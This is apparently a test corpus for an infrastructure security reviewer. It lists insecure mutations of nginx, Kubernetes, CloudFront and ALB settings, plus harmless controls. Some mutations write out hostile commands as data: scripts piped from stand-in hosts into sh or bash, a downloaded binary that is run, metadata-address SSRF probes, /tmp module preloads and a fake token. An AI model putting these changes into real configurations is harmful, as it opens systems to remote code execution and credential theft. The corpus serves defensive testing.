/**
 * Round 8, nginx.conf, the app's environment as the kubelet builds it, and the chains across CloudFront, the load
 * balancers, nginx, the app and Redis: insecure changes of the prod plan written blind (before reading the rules),
 * none repeating rounds 5-7, each naming the resource a mandatory rule must report, and harmless changes a reviewer
 * would accept. The blind run's corpus comes first; the section marked below was written after reading the rules,
 * as further spellings of the classes the blind run exposed.
 *
 * Blind first run: 42 caught, 2 reported on another resource, 31 missed of 75; no harmless change reported. After the
 * fixes: 112 of 112 (74 blind, 38 variants) caught on the right resource, 0 of 32 harmless reported.
 *
 * Dropped after reading the code, as not insecure in this product:
 * - "HPA minimum 2 (fewer pods than zones)": the prod minimum is 2 replicas by configuration (k8s-prod-replicas); two
 *   pods spread over two zones survive a zone's loss, and the surge-only rollout and PDB keep one serving.
 */
import type { Mutation, Plan } from "./mutations";
import { configMap, ctr, dropEnv, env, k8s, location, pod, replace1, server } from "./corpus-k8s";
import { all, editConf } from "./round5-rt-k8s";

const CONFIG_MAP = "kubernetes:core/v1:ConfigMap";
const SECRET = "kubernetes:core/v1:Secret";
const CF_FUNCTION = "aws:cloudfront/function:Function";
const DISTRIBUTION = "aws:cloudfront/distribution:Distribution";

const ALB = "listen 0.0.0.0:8080 ssl;";
const ALB_DEFAULT = "listen 0.0.0.0:8080 ssl default_server;";
const NLB_TLS = "listen 0.0.0.0:8443 proxy_protocol;";
/** A Secret as the plan shows one: its content masked. */
const maskedSecret = (p: Plan, name: string, secretName: string) =>
  k8s(p, SECRET, name, "workloads", { apiVersion: "v1", kind: "Secret", metadata: { name: secretName, namespace: "edgestack" }, type: "Opaque", stringData: "[secret]" });
const behaviour = (p: Plan, pattern: string) => {
  const b = p.inputs("cdn-distribution", DISTRIBUTION).orderedCacheBehaviors.find((x: { pathPattern: string }) => x.pathPattern === pattern);
  if (!b) throw new Error(`no behaviour ${pattern}`);
  return b;
};
const fnCode = (p: Plan, edit: (code: string) => string) => {
  const f = p.inputs("cdn-viewer-address", CF_FUNCTION);
  const after = edit(String(f.code));
  if (after === f.code) throw new Error("function edit changed nothing");
  f.code = after;
};

export const round8NginxMutations: Mutation[] = [
  // ── TLS on nginx's listeners ──
  { area: "tls", title: "TLS 1.1 on the ALB port's default server only", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB_DEFAULT, replace1("ssl_protocols TLSv1.2 TLSv1.3;", "ssl_protocols TLSv1.1 TLSv1.2 TLSv1.3;"))) },
  { area: "tls", title: "anonymous (aNULL) suites appended to the cipher list", expect: "workloads-nginx-conf", apply: (p) => editConf(p, (c) => c.replace(/ssl_ciphers ([^;]+);/g, "ssl_ciphers $1:ADH-AES128-GCM-SHA256:aNULL;")) },
  { area: "tls", title: "cipher list HIGH (static-RSA and CBC suites)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, (c) => c.replace(/ssl_ciphers [^;]+;/g, "ssl_ciphers HIGH:!aNULL:!MD5;")) },
  { area: "tls", title: "cipher string through ssl_conf_command CipherString at security level 0", expect: "workloads-nginx-conf", apply: (p) => editConf(p, all("        ssl_protocols TLSv1.2 TLSv1.3;\n", "        ssl_protocols TLSv1.2 TLSv1.3;\n        ssl_conf_command CipherString DEFAULT@SECLEVEL=0;\n")) },
  { area: "tls", title: "protocols reopened through ssl_conf_command Protocol", expect: "workloads-nginx-conf", apply: (p) => editConf(p, all("        ssl_protocols TLSv1.2 TLSv1.3;\n", "        ssl_protocols TLSv1.2 TLSv1.3;\n        ssl_conf_command Protocol ALL,-SSLv2;\n")) },
  { area: "tls", title: "TLS 1.3 early data (0-RTT, replayable requests)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, all("        ssl_session_tickets off;\n", "        ssl_session_tickets off;\n        ssl_early_data on;\n")) },
  { area: "tls", title: "a 192-bit elliptic curve for key exchange", expect: "workloads-nginx-conf", apply: (p) => editConf(p, all("        ssl_protocols TLSv1.2 TLSv1.3;\n", "        ssl_protocols TLSv1.2 TLSv1.3;\n        ssl_ecdh_curve prime192v1:prime256v1;\n")) },
  { area: "tls", title: "session tickets on in the default server only", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB_DEFAULT, replace1("ssl_session_tickets off;", "ssl_session_tickets on;"))) },

  // ── Response headers ──
  { area: "headers", title: "security headers lose `always` (absent from every 4xx/5xx answer)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, (c) => c.replace(/add_header (X-Content-Type-Options|X-Frame-Options|Referrer-Policy) ("[^"]*") always;/g, "add_header $1 $2;")) },
  { area: "headers", title: "HSTS max-age one second under a year", expect: "workloads-nginx-conf", apply: (p) => editConf(p, all('https "max-age=63072000; includeSubDomains; preload";', 'https "max-age=31535999; includeSubDomains";')) },
  { area: "headers", title: "API reflects any Origin with credentials (CORS)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, location("/api/", replace1("            proxy_pass http://app;\n", "            proxy_pass http://app;\n            add_header Access-Control-Allow-Origin $http_origin always;\n            add_header Access-Control-Allow-Credentials true always;\n")))) },

  // ── Real-IP trust and the viewer address inside nginx ──
  { area: "real-ip", title: "ALB listener trusts real-IP headers from all of 10.0.0.0/8 (peered networks spoof viewers)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, replace1("set_real_ip_from 10.20.0.0/16;", "set_real_ip_from 10.0.0.0/8;"))) },
  { area: "real-ip", title: "X-Forwarded-Proto gate defaults to trusted", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("geo $realip_remote_addr $edge_trusted_peer_alb_https {\n        default 0;", "geo $realip_remote_addr $edge_trusted_peer_alb_https {\n        default 1;")) },
  { area: "real-ip", title: "PROXY TLS listener also trusts the IPv4-mapped IPv6 space", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(NLB_TLS, replace1("        set_real_ip_from 10.20.0.0/16;\n", "        set_real_ip_from 10.20.0.0/16;\n        set_real_ip_from ::ffff:0:0/96;\n"))) },
  { area: "real-ip", title: "nginx hands the app a client-written X-Request-ID unchecked", expect: "workloads-nginx-conf", apply: (p) => editConf(p, all("proxy_set_header X-Request-ID $edge_request_id;", "proxy_set_header X-Request-ID $http_x_request_id;")) },
  { area: "real-ip", title: "any client X-Request-ID kept (format check widened to anything)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1('"~^[A-Za-z0-9._:-]{1,128}$" $http_x_request_id;', '"~^.+$" $http_x_request_id;')) },
  { area: "real-ip", title: "app's Host from a client-sent X-Forwarded-Host", expect: "workloads-nginx-conf", apply: (p) => editConf(p, all("proxy_set_header Host $host;", "proxy_set_header Host $http_x_forwarded_host;")) },

  // ── Limits ──
  { area: "limits", title: "API moved to a second zone of 100000 requests a minute", expect: "workloads-nginx-conf", apply: (p) =>
    editConf(p, (c) => server(ALB, location("/api/", replace1("limit_req zone=per_ip_requests burst=50 nodelay;", "limit_req zone=api_loose burst=50 nodelay;")))(c).replace("    limit_req_status 429;\n", "    limit_req_zone $edge_client zone=api_loose:10m rate=100000r/m;\n    limit_req_status 429;\n")) },
  { area: "limits", title: "per-IP connection limit removed from every location", expect: "workloads-nginx-conf", apply: (p) => editConf(p, all("            limit_conn per_ip_connections 100;\n", "")) },
  { area: "limits", title: "WebSockets per pod raised to every connection the worker has", expect: "workloads-nginx-conf", apply: (p) => editConf(p, all("limit_conn ws_per_pod 4608;", "limit_conn ws_per_pod 12288;")) },
  { area: "limits", title: "request bodies of 64 MB at http level", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("    client_max_body_size 1m;\n", "    client_max_body_size 64m;\n")) },
  { area: "limits", title: "request header buffer of 4 MB", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("    keepalive_timeout 75s;\n", "    keepalive_timeout 75s;\n    client_header_buffer_size 4m;\n")) },
  { area: "limits", title: "worker connections far beyond the pod's memory", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("worker_connections 12288;", "worker_connections 200000;")) },

  // ── Timeouts inside nginx and along the chain ──
  { area: "timeouts", title: "client keep-alive of an hour (idle sockets pile up)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("    keepalive_timeout 75s;\n", "    keepalive_timeout 3600s;\n")) },
  { area: "timeouts", title: "WebSocket send_timeout of an hour (a client that stops reading holds its socket)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, all("            send_timeout 10s;\n", "            send_timeout 3600s;\n")) },
  { area: "timeouts", title: "WebSocket read timeout of a day (hung pods' sockets kept)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, location("= /ws", replace1("proxy_read_timeout 10s;", "proxy_read_timeout 86400s;")))) },
  { area: "timeouts", title: "API read timeout 61 s (past the ALB's 60 s idle timeout)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, location("/api/", replace1("proxy_read_timeout 30s;", "proxy_read_timeout 61s;")))) },
  { area: "timeouts", title: "nginx worker shutdown 41 s (with the 5 s pause, past the 45 s grace)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("worker_shutdown_timeout 20s;", "worker_shutdown_timeout 41s;")) },
  { area: "timeouts", title: "ALB idle timeout 90 s, beyond nginx's 75 s client keep-alive", expect: "alb-lb", apply: (p) => (p.inputs("alb-lb").idleTimeout = 90) },
  { area: "timeouts", title: "CloudFront origin keep-alive 60 s, equal to the ALB's idle timeout", expect: "cdn-distribution", apply: (p) => (p.inputs("cdn-distribution", DISTRIBUTION).origins[0].customOriginConfig.originKeepaliveTimeout = 60) },
  { area: "timeouts", title: "ALB deregistration delay 60 s, beyond the app's 20 s shutdown delay", expect: "alb-nginx", apply: (p) => (p.inputs("alb-nginx").deregistrationDelay = 60) },
  { area: "timeouts", title: "app shutdown hard limit equal to the 45 s grace period", expect: "workloads-app", apply: (p) => env(p, "workloads-app", "SHUTDOWN_TIMEOUT_MS", "45000") },
  { area: "timeouts", title: "app shutdown delay 19 s, below the target groups' 20 s deregistration", expect: "workloads-app", apply: (p) => env(p, "workloads-app", "SHUTDOWN_DELAY_MS", "19000") },
  { area: "timeouts", title: "app readiness needs 24 s to see the drain (longer than the 20 s shutdown delay)", expect: "workloads-app", apply: (p) => (ctr(p, "workloads-app").readinessProbe.failureThreshold = 12) },
  { area: "timeouts", title: "Redis command timeout 0 (unbounded: requests queue on a hung Redis)", expect: "workloads-app", apply: (p) => env(p, "workloads-app", "REDIS_COMMAND_TIMEOUT_MS", "0") },

  // ── Locations, upstreams, redirects ──
  { area: "locations", title: "new /internal/ location proxied without limits or method gate", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, replace1("        location = /health {", "        location /internal/ {\n            proxy_pass http://app;\n        }\n        location = /health {"))) },
  { area: "locations", title: "public location proxies the app's metrics port", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, replace1("        location = /health {", "        location = /metrics {\n            proxy_pass http://app-pods.edgestack.svc.cluster.local:9464;\n        }\n        location = /health {"))) },
  { area: "locations", title: "TRACE admitted on the API (cross-site tracing)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, location("/api/", (b) => b.replace("^(DELETE|GET|HEAD|OPTIONS|PATCH|POST|PUT)$", "^(DELETE|GET|HEAD|OPTIONS|PATCH|POST|PUT|TRACE)$")))) },
  { area: "locations", title: "open redirect to a query argument", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, replace1("        location = /health {", "        location = /go {\n            return 302 $arg_next;\n        }\n        location = /health {"))) },
  { area: "locations", title: "Upgrade passed through on /api/ (h2c smuggling past nginx's checks)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, location("/api/", replace1("            proxy_pass http://app;\n", "            proxy_pass http://app;\n            proxy_set_header Upgrade $http_upgrade;\n            proxy_set_header Connection $connection_upgrade;\n")))) },
  { area: "locations", title: "server-side includes processed in the app's HTML", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, location("/", replace1("            proxy_pass http://app;\n", "            proxy_pass http://app;\n            ssi on;\n")))) },
  { area: "upstreams", title: "API retries non-idempotent requests (duplicate POSTs)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, location("/api/", replace1("proxy_next_upstream error http_502 http_504;", "proxy_next_upstream error timeout http_502 http_504 non_idempotent;")))) },
  { area: "upstreams", title: "upstream retries unbounded (tries 0, timeout 0)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, (c) => c.replace(/proxy_next_upstream_tries 3;/g, "proxy_next_upstream_tries 0;").replace(/proxy_next_upstream_timeout [0-9a-z]+;/g, "proxy_next_upstream_timeout 0;")) },
  { area: "upstreams", title: "app pods' addresses cached for an hour (stale pod IPs reused by other pods)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("resolver 172.20.0.10 valid=1s ipv6=off;", "resolver 172.20.0.10 valid=3600s ipv6=off;")) },

  // ── Logging ──
  { area: "logging", title: "access log format without escape=json (log injection)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("log_format edge_json escape=json '", "log_format edge_json '")) },
  { area: "logging", title: "access log written to a file in the pod's /tmp (never collected)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("access_log /dev/stdout edge_json", "access_log /tmp/access.log edge_json")) },
  { area: "logging", title: "server errors left out of the access log", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("    map $status $edge_loggable {\n        default 1;\n", '    map $status $edge_loggable {\n        default 1;\n        "~^5" 0;\n')) },
  { area: "logging", title: "access log format drops the client address", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1('"remote_addr":"$remote_addr",', "")) },

  // ── The app's environment as the kubelet builds it ──
  { area: "env", title: "TRUST_PROXY_CIDRS assembled from a prefixed envFrom ConfigMap (PROXY_CIDRS: 0.0.0.0/0)", expect: "workloads-app", apply: (p) => {
    configMap(p, "workloads-app-trust", "app-trust", { PROXY_CIDRS: "0.0.0.0/0" });
    dropEnv(p, "workloads-app", "TRUST_PROXY_CIDRS");
    ctr(p, "workloads-app").envFrom = [{ prefix: "TRUST_", configMapRef: { name: "app-trust" } }];
  } },
  { area: "env", title: "RATE_LIMIT_MAX from a Secret whose value the plan cannot show", expect: "workloads-app", apply: (p) => {
    maskedSecret(p, "workloads-app-limits", "app-limits");
    const e = ctr(p, "workloads-app").env.find((x: { name: string }) => x.name === "RATE_LIMIT_MAX");
    delete e.value;
    e.valueFrom = { secretKeyRef: { name: "app-limits", key: "RATE_LIMIT_MAX" } };
  } },
  { area: "env", title: "TRUST_PROXY_CIDRS from an envFrom Secret (the plan masks what it trusts)", expect: "workloads-app", apply: (p) => {
    maskedSecret(p, "workloads-app-trust", "app-trust");
    dropEnv(p, "workloads-app", "TRUST_PROXY_CIDRS");
    ctr(p, "workloads-app").envFrom = [{ secretRef: { name: "app-trust" } }];
  } },
  { area: "env", title: "app trusts the IPv4-mapped IPv6 space (every IPv4 address)", expect: "workloads-app", apply: (p) => env(p, "workloads-app", "TRUST_PROXY_CIDRS", "10.20.0.0/16,::ffff:0:0/96") },
  { area: "env", title: "app trusts all of 10.0.0.0/8 as proxies", expect: "workloads-app", apply: (p) => env(p, "workloads-app", "TRUST_PROXY_CIDRS", "10.0.0.0/8") },
  { area: "env", title: "app preloads a module from its writable /tmp (NODE_OPTIONS --require)", expect: "workloads-app", apply: (p) => env(p, "workloads-app", "NODE_OPTIONS", "--require /tmp/hook.js") },
  { area: "env", title: "app's Node TLS cipher list at security level 0", expect: "workloads-app", apply: (p) => env(p, "workloads-app", "NODE_OPTIONS", "--tls-cipher-list=DEFAULT@SECLEVEL=0") },
  { area: "env", title: "WebSocket origins admit the null origin (sandboxed frames, file://)", expect: "workloads-app", apply: (p) => env(p, "workloads-app", "WS_ALLOWED_ORIGINS", "https://edgestack.example.com,null") },
  { area: "env", title: "100000 WebSockets per replica (past its memory limit)", expect: "workloads-app", apply: (p) => env(p, "workloads-app", "WS_MAX_CONNECTIONS", "100000") },
  { area: "env", title: "WebSocket send buffer of 1 GB per peer", expect: "workloads-app", apply: (p) => env(p, "workloads-app", "WS_SEND_BUFFER_BYTES", "1073741824") },
  { area: "env", title: "WebSocket messages per second raised to 100000", expect: "workloads-app", apply: (p) => env(p, "workloads-app", "WS_MAX_MESSAGES_PER_SECOND", "100000") },
  { area: "env", title: "a GitHub token literal in the app's environment under a neutral name", expect: "workloads-app", apply: (p) => env(p, "workloads-app", "BUILD_INFO", "ghp_1234567890abcdefghijklmnopqrstuvwxyzAB") },
  { area: "env", title: "nginx gets its TLS key as an environment variable", expect: "workloads-nginx", apply: (p) => ctr(p, "workloads-nginx").env = [{ name: "TLS_KEY", valueFrom: { secretKeyRef: { name: "nginx-alb-tls", key: "tls.key" } } }] },
  { area: "env", title: "TLS private key pasted into the nginx ConfigMap", expect: "workloads-nginx-conf", apply: (p) => (p.inputs("workloads-nginx-conf").data["tls.key"] = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\n-----END PRIVATE KEY-----\n") },

  // ── Probes, hooks and ports ──
  { area: "probes", title: "app liveness probe sent to the instance metadata address (kubelet SSRF)", expect: "workloads-app", apply: (p) => (ctr(p, "workloads-app").livenessProbe.httpGet.host = "169.254.169.254") },
  { area: "probes", title: "nginx postStart hook runs a script fetched over plain HTTP", expect: "workloads-nginx", apply: (p) => (ctr(p, "workloads-nginx").lifecycle.postStart = { exec: { command: ["sh", "-c", "wget -qO- http://tools.example.net/init.sh | sh"] } }) },
  { area: "probes", title: "app preStop hook calls an outside host", expect: "workloads-app", apply: (p) => (ctr(p, "workloads-app").lifecycle = { preStop: { httpGet: { host: "hooks.example.net", path: "/drain", port: 80, scheme: "HTTP" } } }) },
  { area: "ports", title: "app metrics port bound on the node (hostPort)", expect: "workloads-app", apply: (p) => (ctr(p, "workloads-app").ports[1].hostPort = 9464) },
  { area: "readiness", title: "app readiness on /health with a query string (follows Redis)", expect: "workloads-app", apply: (p) => (ctr(p, "workloads-app").readinessProbe.httpGet.path = "/health?deep=1") },
  { area: "readiness", title: "nginx readiness by exec through its own proxy to the app's /health", expect: "workloads-nginx", apply: (p) => (ctr(p, "workloads-nginx").readinessProbe = { exec: { command: ["wget", "-q", "--no-check-certificate", "-O-", "https://127.0.0.1:8080/health"] }, periodSeconds: 5, failureThreshold: 2, timeoutSeconds: 2 }) },

  // ── The viewer-address chain at CloudFront ──
  { area: "viewer-address", title: "viewer function copies the viewer's own X-Forwarded-For into X-Viewer-Address", expect: "cdn-viewer-address", apply: (p) => fnCode(p, (c) => c.replace("{ value: event.viewer.ip }", "{ value: (request.headers[\"x-forwarded-for\"] || { value: event.viewer.ip }).value.split(\",\")[0] }")) },
  { area: "viewer-address", title: "viewer function writes a misspelt header (the viewer's own X-Viewer-Address passes)", expect: "cdn-viewer-address", apply: (p) => fnCode(p, (c) => c.replace('request.headers["x-viewer-address"]', 'request.headers["x-viewer-addr"]')) },
  { area: "viewer-address", title: "viewer function left unpublished (its LIVE stage keeps no code)", expect: "cdn-viewer-address", apply: (p) => (p.inputs("cdn-viewer-address", CF_FUNCTION).publish = false) },
  { area: "viewer-address", title: "/api/* behaviour loses the viewer function (viewer-sent X-Viewer-Address reaches nginx)", expect: "cdn-distribution", apply: (p) => delete behaviour(p, "/api/*").functionAssociations },
  { area: "viewer-address", title: "viewer function moved to viewer-response on /api/*", expect: "cdn-distribution", apply: (p) => (behaviour(p, "/api/*").functionAssociations[0].eventType = "viewer-response") },

  // ── Rollouts, spread, scaling ──
  { area: "spread", title: "nginx zone spread only a preference", expect: "workloads-nginx", apply: (p) => (pod(p, "workloads-nginx").topologySpreadConstraints[0].whenUnsatisfiable = "ScheduleAnyway") },

  // ── Written after reading the rules: further spellings of the classes the blind run exposed ──
  { area: "tls", title: "cipher list AES256:SHA256 (static RSA through broad aliases, anonymous excluded only)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, (c) => c.replace(/ssl_ciphers [^;]+;/g, "ssl_ciphers AES256:SHA256:!aNULL;")) },
  { area: "tls", title: "HIGH through ssl_conf_command CipherString", expect: "workloads-nginx-conf", apply: (p) => editConf(p, all("        ssl_protocols TLSv1.2 TLSv1.3;\n", "        ssl_protocols TLSv1.2 TLSv1.3;\n        ssl_conf_command CipherString HIGH;\n")) },
  { area: "tls", title: "security level 1 glued to a named suite", expect: "workloads-nginx-conf", apply: (p) => editConf(p, (c) => c.replace(/ssl_ciphers ([^;]+);/g, "ssl_ciphers $1@SECLEVEL=1;")) },
  { area: "tls", title: "a 192-bit group through ssl_conf_command Groups", expect: "workloads-nginx-conf", apply: (p) => editConf(p, all("        ssl_protocols TLSv1.2 TLSv1.3;\n", "        ssl_protocols TLSv1.2 TLSv1.3;\n        ssl_conf_command Groups secp192r1:X25519;\n")) },
  { area: "tls", title: "early data on the ALB port's default server only", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB_DEFAULT, replace1("ssl_session_tickets off;", "ssl_session_tickets off;\n        ssl_early_data on;"))) },
  { area: "headers", title: "nosniff without always on /api/ only", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, location("/api/", replace1('add_header X-Content-Type-Options "nosniff" always;', 'add_header X-Content-Type-Options "nosniff";')))) },
  { area: "real-ip", title: "PROXY TLS listener also trusts 100.64.0.0/10", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(NLB_TLS, replace1("        set_real_ip_from 10.20.0.0/16;\n", "        set_real_ip_from 10.20.0.0/16;\n        set_real_ip_from 100.64.0.0/10;\n"))) },
  { area: "env", title: "app trusts the VPC and all of 172.16.0.0/12", expect: "workloads-app", apply: (p) => env(p, "workloads-app", "TRUST_PROXY_CIDRS", "10.20.0.0/16,172.16.0.0/12") },
  { area: "env", title: "TRUST_PROXY_CIDRS of 10.0.0.0/8 from a ConfigMap key", expect: "workloads-app", apply: (p) => {
    configMap(p, "workloads-app-settings", "app-settings", { TRUST_PROXY_CIDRS: "10.0.0.0/8" });
    const e = ctr(p, "workloads-app").env.find((x: { name: string }) => x.name === "TRUST_PROXY_CIDRS");
    delete e.value;
    e.valueFrom = { configMapKeyRef: { name: "app-settings", key: "TRUST_PROXY_CIDRS" } };
  } },
  { area: "real-ip", title: "X-Request-ID taken from a query argument", expect: "workloads-nginx-conf", apply: (p) => editConf(p, all("proxy_set_header X-Request-ID $edge_request_id;", "proxy_set_header X-Request-ID $arg_rid;")) },
  { area: "real-ip", title: "request-id format check widened to any non-space text (\\S)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1('"~^[A-Za-z0-9._:-]{1,128}$" $http_x_request_id;', '"~^\\S{1,128}$" $http_x_request_id;')) },
  { area: "real-ip", title: "a client header copied into a new upstream header through a map", expect: "workloads-nginx-conf", apply: (p) =>
    editConf(p, (c) => server(ALB, location("/api/", replace1("            proxy_set_header X-Request-ID $edge_request_id;\n", "            proxy_set_header X-Request-ID $edge_request_id;\n            proxy_set_header X-User $edge_user;\n")))(c).replace("    limit_req_status 429;\n", "    map $http_x_user $edge_user {\n        default $http_x_user;\n    }\n    limit_req_status 429;\n")) },
  { area: "locations", title: "Upgrade passed through on / (h2c)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, location("/", replace1("            proxy_pass http://app;\n", "            proxy_pass http://app;\n            proxy_set_header Upgrade $http_upgrade;\n            proxy_set_header Connection \"upgrade\";\n")))) },
  { area: "locations", title: "protocol-relative open redirect (return 301 /$arg_path)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, replace1("        location = /health {", "        location = /out {\n            return 301 /$arg_path;\n        }\n        location = /health {"))) },
  { area: "locations", title: "rewrite to a query argument", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, replace1("        location = /health {", "        location = /out {\n            rewrite ^ $arg_u redirect;\n        }\n        location = /health {"))) },
  { area: "locations", title: "Location header from the client's Referer", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, replace1("        location = /health {", "        location = /back {\n            add_header Location $http_referer always;\n            return 302;\n        }\n        location = /health {"))) },
  { area: "logging", title: "4xx answers left out of the access log", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("    map $status $edge_loggable {\n        default 1;\n", '    map $status $edge_loggable {\n        default 1;\n        "~^4" 0;\n')) },
  { area: "logging", title: "access log to a file under /var/log", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("access_log /dev/stdout edge_json", "access_log /var/log/nginx/access.log edge_json")) },
  { area: "logging", title: "log_format escape=none", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("log_format edge_json escape=json '", "log_format edge_json escape=none '")) },
  { area: "logging", title: "access log format without the status", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1('"status":"$status",', "")) },
  { area: "timeouts", title: "client keep-alive of 10 minutes", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("    keepalive_timeout 75s;\n", "    keepalive_timeout 10m;\n")) },
  { area: "upstreams", title: "pod addresses cached 5 minutes", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("resolver 172.20.0.10 valid=1s ipv6=off;", "resolver 172.20.0.10 valid=5m ipv6=off;")) },
  { area: "upstreams", title: "retry window unbounded on the API only (timeout 0)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, location("/api/", replace1("proxy_next_upstream_timeout 35s;", "proxy_next_upstream_timeout 0;")))) },
  { area: "limits", title: "WebSockets per pod just past three quarters of the worker's connections", expect: "workloads-nginx-conf", apply: (p) => editConf(p, all("limit_conn ws_per_pod 4608;", "limit_conn ws_per_pod 10000;")) },
  { area: "limits", title: "descriptor limit lowered below the worker's connections", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("worker_rlimit_nofile 12352;", "worker_rlimit_nofile 4096;")) },
  { area: "limits", title: "API's per-client connection limit replaced by the pod-wide zone", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, location("/api/", replace1("limit_conn per_ip_connections 100;", "limit_conn ws_per_pod 100;")))) },
  { area: "viewer-address", title: "viewer function sets the header from the viewer's own X-Real-IP", expect: "cdn-viewer-address", apply: (p) => fnCode(p, (c) => c.replace("{ value: event.viewer.ip }", "request.headers[\"x-real-ip\"] || { value: event.viewer.ip }")) },
  { area: "env", title: "NODE_OPTIONS from an envFrom ConfigMap imports a file URL from /tmp", expect: "workloads-app-settings", apply: (p) => {
    configMap(p, "workloads-app-settings", "app-settings", { NODE_OPTIONS: "--import=file:///tmp/patch.mjs" });
    ctr(p, "workloads-app").envFrom = [{ configMapRef: { name: "app-settings" } }];
  } },
  { area: "env", title: "app preloads a relative path (-r ./hook.js)", expect: "workloads-app", apply: (p) => env(p, "workloads-app", "NODE_OPTIONS", "-r ./hook.js") },
  { area: "probes", title: "init container pipes a downloaded script to bash", expect: "workloads-app", apply: (p) => (pod(p, "workloads-app").initContainers = [{ ...JSON.parse(JSON.stringify(ctr(p, "workloads-app"))), name: "setup", command: ["sh", "-c", "curl -fsSL https://get.example.net/setup.sh | bash"], ports: [], livenessProbe: undefined, readinessProbe: undefined, startupProbe: undefined }]) },
  { area: "probes", title: "app command downloads a binary, marks it executable and runs it", expect: "workloads-app", apply: (p) => (ctr(p, "workloads-app").command = ["sh", "-c", "wget -O /tmp/agent http://tools.example.net/agent && chmod +x /tmp/agent && /tmp/agent & exec node dist/server.js"]) },
  { area: "probes", title: "nginx postStart hook opens a TCP connection to the metadata address", expect: "workloads-nginx", apply: (p) => (ctr(p, "workloads-nginx").lifecycle.postStart = { tcpSocket: { host: "169.254.169.254", port: 80 } }) },
  { area: "locations", title: "port-80 default server redirects to https://$host (any Host the client sends)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server("listen 0.0.0.0:8081 proxy_protocol default_server;", location("/", () => "        location / {\n            return 301 https://$host$request_uri;\n        }\n"))) },
  { area: "logging", title: "error log written to a file in the pod's /tmp", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("error_log /dev/stderr warn;", "error_log /tmp/error.log warn;")) },
  { area: "real-ip", title: "PROXY TLS listener's gate also admits 10.0.0.0/8 (peered hosts write PROXY headers)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("geo $realip_remote_addr $edge_untrusted_peer_nlb_tls {\n        default 1;\n        10.20.0.0/16 0;\n", "geo $realip_remote_addr $edge_untrusted_peer_nlb_tls {\n        default 1;\n        10.20.0.0/16 0;\n        10.0.0.0/8 0;\n")) },
  { area: "real-ip", title: "X-Forwarded-Proto believed from 172.16.0.0/12 as well", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("geo $realip_remote_addr $edge_trusted_peer_alb_https {\n        default 0;\n        10.20.0.0/16 1;\n", "geo $realip_remote_addr $edge_trusted_peer_alb_https {\n        default 0;\n        10.20.0.0/16 1;\n        172.16.0.0/12 1;\n")) },
  { area: "env", title: "5000 WebSockets per replica (400 MiB of buffers in a 512 MiB pod)", expect: "workloads-app", apply: (p) => env(p, "workloads-app", "WS_MAX_CONNECTIONS", "5000") },
  { area: "env", title: "WebSocket messages per second 1000 from a ConfigMap", expect: "workloads-app", apply: (p) => {
    configMap(p, "workloads-app-settings", "app-settings", { WS_MAX_MESSAGES_PER_SECOND: "1000" });
    ctr(p, "workloads-app").envFrom = [{ configMapRef: { name: "app-settings" } }];
  } },
];

export const round8NginxHarmless: { title: string; apply: (plan: Plan) => void }[] = [
  { title: "request rate 1200 a minute written as 20 a second", apply: (p) => editConf(p, all("rate=1200r/m;", "rate=20r/s;")) },
  { title: "ALB listener servers speak TLS 1.3 only", apply: (p) => editConf(p, all("ssl_protocols TLSv1.2 TLSv1.3;", "ssl_protocols TLSv1.3;")) },
